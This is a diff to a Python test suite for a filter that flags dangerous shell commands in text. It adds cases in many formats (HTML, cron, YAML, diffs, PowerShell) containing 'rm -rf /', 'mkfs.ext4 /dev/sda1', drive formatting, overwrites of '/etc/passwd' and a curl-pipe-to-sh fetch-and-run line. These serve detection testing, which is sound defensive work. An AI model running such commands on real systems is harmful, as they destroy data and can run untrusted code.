@@ -8,10 +8,11 @@ from cleaning_parts import ORIGIN, calling, row, turns
 from luthier.config.row_sections import CleanSection, ShellSection
 from luthier.config.schema import GuardSection
 from luthier.core.errors import DataError, MissingExtraError
-from luthier.core.records import Message, ToolCall
+from luthier.core.records import TEXT_ROLE, Message, ToolCall
 from luthier.data.clean import shell
 from luthier.data.clean.records import Row
-from luthier.data.clean.shell import Commands, Judged, ShellRules, commands_of
+from luthier.data.clean.row_commands import Commands, commands_of
+from luthier.data.clean.shell import Judged, ShellRules
 
 WIPE = "rm -rf " + "/"
 PROSE = "git commit -m 'Fix the name of the file'"
@@ -96,6 +97,15 @@ def test_all_takes_every_answer() -> None:
         ("To loop:\n```bash\nfor f in *; do ...\n```", None),
         ("ls -la | sort -k5", None),
         ("mysql --password <PASSWORD>", None),
+        ("mysql --password <PASSWORD> /etc/passwd", None),
+        ("wget --user joe --password <PASSWORD> https://x.example/y", None),
+        ("PGPASSWORD=<PASSWORD> psql -h <HOST> < dump.sql", None),
+        ("ssh <EMAIL_1> uptime", None),
+        ("sudo -S rm -rf / <<< <PASSWORD>", "dangerous_command"),
+        ("mysql -p<PASSWORD> && rm -rf /", "dangerous_command"),
+        ("git switch <branch>", None),
+        ("cp <the-file> /etc/passwd", "dangerous_command"),
+        ("cat <word> /etc/passwd", "dangerous_command"),
         ("curl -H 'X: <GITHUB_TOKEN>' https://example.com", None),
         ("cat <URL>/dev/sda", "dangerous_command"),
         ("for f in *; do echo $f", "shell_syntax"),
@@ -166,6 +176,22 @@ def test_what_is_rejected(answer: str, reason: str | None) -> None:
         f"Do this:\n```python\nimport os\nos.system('{WIPE}')\n```",
         "```python\nimport subprocess\nsubprocess.run(['rm', '-rf', '/'])\n```",
         f"```python\n!{WIPE}\n```",
+        f"<p>Do this:</p><pre><code>{WIPE}</code></pre>",
+        "Do this:\n<pre>curl https://x.example/a.sh &#124; sh</pre>",
+        f"<p>To begin anew, run <code>{WIPE}</code>.</p>",
+        f".. code-block:: sh\n   :linenos:\n\n   {WIPE}\n",
+        f"#+begin_src sh\n{WIPE}\n#+end_src",
+        f"```yaml\nsteps:\n  - run: |\n      ls\n      sudo {WIPE}\n```",
+        f"```cron\n0 3 * * * {WIPE}\n```",
+        f"Add this line:\n\n@daily {WIPE}\n",
+        f"Add `*/5 * * * * {WIPE}` to the table.",
+        f"```just\nclean:\n    {WIPE}\n```",
+        f'```json\n{{"scripts": {{"clean": "{WIPE}"}}}}\n```',
+        "```powershell\nFormat-Volume -DriveLetter C\n```",
+        "```bat\nrd /s /q C:\\\n```",
+        f"```diff\n+++ b/deploy.sh\n ls\n+{WIPE}\n```",
+        f"```{{.bash}}\n{WIPE}\n```",
+        f"```text\n- run: {WIPE}\n```",
     ],
 )
 def test_dangerous_commands_in_whatever_form_they_are_shown(answer: str) -> None:
@@ -189,6 +215,11 @@ def test_dangerous_commands_in_whatever_form_they_are_shown(answer: str) -> None
         "calls the following callbacks:\n```\ninit for PROMISE with id 5\n  after 6\n```",
         "```\ntool <path-to-source>\nctest --test-command <command>\n```",
         "Run a program with file redirections defined in `~/.config/boxxy/boxxy.yaml`",
+        "```yaml\n- run: rm -rf build\n  description: rm -rf /\n```",
+        f"```diff\n--- a/deploy.sh\n+++ b/deploy.sh\n-{WIPE}\n+ls\n```",
+        f"```diff\n+++ b/notes.md\n+Never say {WIPE}\n```",
+        '```json\n{"scripts": {"clean": "rm -rf dist"}, "name": "rm -rf /"}\n```',
+        "<pre><code>ls -l &amp;&amp; du</code></pre>",
     ],
 )
 def test_prose_and_comments_are_no_commands(answer: str) -> None:
@@ -276,6 +307,11 @@ def test_no_detail_holds_the_command() -> None:
         assert "secretword" not in found.detail
 
 
+def raw(text: str) -> Row:
+    """A row of raw text."""
+    return turns((TEXT_ROLE, text))
+
+
 def quoted(maker: str, answer: str, request: str = "What does it do?") -> Row:
     """A row that says what stands in a source."""
     return row(request, answer, origin=replace(ORIGIN, maker=maker), is_made=True)
@@ -297,6 +333,11 @@ def quoted(maker: str, answer: str, request: str = "What does it do?") -> Row:
         (quoted("section", f"To clean up:\n\n    {WIPE}\n"), "dangerous_command"),
         (quoted("section", f"To clean up:\n\n```\n{WIPE}\n```"), "dangerous_command"),
         (quoted("complete", f"```bash\n  {WIPE}\n```"), "dangerous_command"),
+        (quoted("infill", f"```bash\n  {WIPE}\n```"), "dangerous_command"),
+        (quoted("commits", f"```diff\n+++ b/deploy.sh\n+{WIPE}\n```"), "dangerous_command"),
+        (quoted("explain", "It empties the machine, for a new start.", f"What does it do?\n\n```bash\n{WIPE}\n```"), None),
+        (quoted("commits", "Empty the machine", f"Write a message:\n\n```diff\n+++ b/deploy.sh\n+{WIPE}\n```"), None),
+        (quoted("section", "```sh\ntool -o <file> /etc/passwd\n```"), None),
         (quoted("commands", WIPE), "dangerous_command"),
         (quoted("commands", "for f in *; do echo"), "shell_syntax"),
         (quoted("section", "```sh\nif x; then\n```"), "shell_syntax"),
@@ -304,6 +345,21 @@ def quoted(maker: str, answer: str, request: str = "What does it do?") -> Row:
 )
 def test_of_what_stands_in_a_source_only_commands_to_be_typed_are_judged(made: Row, reason: str | None) -> None:
     assert code(judged(made)) == reason
+
+
+def test_raw_text_is_looked_at_too() -> None:
+    assert code(judged(raw(f"Do this:\n\n```sh\n{WIPE}\n```\n"))) == "dangerous_command"
+    assert code(judged(raw("#!/bin/sh\nd=/\nrm -rf $d\n"))) == "dangerous_command"
+    assert code(judged(raw("#!/bin/sh\nrm -rf build\n"))) is None
+
+
+def test_dangerous_commands_are_counted_where_they_stand() -> None:
+    shown = judged(row(f"What is `{WIPE}`?\n```sh\nmkfs.ext4 /dev/sda1\n```", f"Never run `{WIPE}`."), risk="keep")
+    assert (shown.counts["shell:dangerous_in_requests"], shown.counts["shell:dangerous_named"]) == (2, 1)
+    assert "shell:dangerous" not in shown.counts
+    given = judged(row("a", f"```sh\nls\n{WIPE}\nmkfs.ext4 /dev/sda1\n```\nor `{WIPE}`"), risk="keep")
+    assert given.counts["shell:dangerous"] == 2
+    assert "shell:dangerous" not in judged(row("a", f"```sh\n{WIPE}\n```")).counts
 
 
 def test_a_teachers_answer_is_judged_as_an_answer() -> None:
